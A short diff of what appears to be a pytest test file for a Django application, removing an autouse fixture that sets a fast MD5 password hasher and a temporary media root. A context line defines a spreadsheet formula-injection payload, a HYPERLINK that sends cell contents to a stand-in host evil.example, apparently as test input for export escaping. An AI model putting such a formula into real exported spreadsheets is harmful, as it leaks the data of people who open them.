@@ -28,12 +28,6 @@ EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 SECRET_TITLE = "关于某涉密工程的建议"
 
 
-@pytest.fixture(autouse=True)
-def _fast(settings, tmp_path):
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
-    settings.MEDIA_ROOT = tmp_path / "media"
-
-
 @pytest.fixture
 def frozen():
     with time_machine.travel(dt.datetime(2026, 5, 11, 10, 0, tzinfo=TZ), tick=False):
